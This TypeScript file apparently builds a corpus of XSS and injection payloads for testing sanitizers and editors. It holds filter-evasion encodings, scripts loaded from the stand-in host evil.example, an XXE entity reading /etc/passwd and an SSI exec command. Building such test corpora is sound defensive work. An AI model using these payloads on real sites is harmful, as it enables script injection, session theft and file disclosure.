/**
 * Texts by which an attacker would try to run a script on readers' pages or in the editor: every way out of where a
 * text may stand, times every thing that runs, times the spellings that filters are known to overlook, and addresses in
 * all disguises. Made of parts after the collections of OWASP and html5sec, so that what is missing can be seen.
 */

// Ways out of the place that a text stands in.
const escapes = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</a>',
  '&quot;>',
]

// Elements that run something by themselves.
const elements = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example/x.js")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xss contenteditable autofocus onfocus=alert(1)>',
]

// Attributes for a text that stands in one.
const attributes = [
  'onmouseover=alert(1)',
  'onfocus=alert(1) autofocus',
  'onpointerenter=alert(1)',
  'onanimationstart=alert(1) style=animation-name:x',
  'style=width:expression(alert(1))',
  'formaction=javascript:alert(1)',
  'srcdoc=<script>alert(1)</script>',
  'href=javascript:alert(1)',
]

const quotes = ['"', "'", '`', ' ', '" ', "' ", '\n', '\u0000"']

// Addresses that run.
const addresses = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'livescript:x',
]

// Spellings of one text that a browser may read as the same.
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(''),
  (text) => ` \t\n${text}`,
  (text) => `\u0001${text}`,
  (text) => `\u00a0${text}`,
  (text) => `\ufeff${text}`,
  (text) => text.replace('script', 'scr\tipt'),
  (text) => text.replace('script', 'scr\nipt'),
  (text) => text.replace('script', 'scr\u0000ipt'),
  (text) => text.replace(':', '&colon;'),
  (text) => text.replace(':', '&#58;'),
  (text) => text.replace(':', '&#x3a;'),
  (text) => text.replace(':', '%3a'),
  (text) => text.replace(':', '\uff1a'),
  (text) => encodeURIComponent(text),
  (text) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join(''),
  (text) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16).padStart(6, '0')}`).join(''),
  (text) => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  (text) => `feed:${text}`,
  (text) => `view-source:${text}`,
  (text) => `jar:${text}!/`,
  (text) => `//${text}`,
  (text) => `https://evil.example/?${text}#${text}`,
]

// Texts that languages other than HTML would run: templates, styles, JSON, feeds, logs.
const others = [
  '{{constructor.constructor("alert(1)")()}}',
  `$\{alert(1)}`,
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[click](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '[[javascript:alert(1)]]',
  '[embed]javascript:alert(1)[/embed]',
  '<!--#exec cmd="ls"-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '\u2028</script><script>alert(1)</script>',
  '\u202Egpj.exe',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '</p></div></main><script>alert(1)</script>',
  '\'";!--"<XSS>=&{()}',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
]

/** Every text once. */
export const hostileCorpus: readonly string[] = [
  ...new Set([
    ...escapes.flatMap((wayOut) => elements.map((element) => wayOut + element)),
    ...quotes.flatMap((quote) => attributes.map((attribute) => `x${quote} ${attribute} x=${quote}`)),
    ...addresses.flatMap((address) => disguises.map((disguise) => disguise(address))),
    ...elements.flatMap((element) => disguises.slice(1, 3).map((disguise) => disguise(element))),
    ...others,
  ]),
]
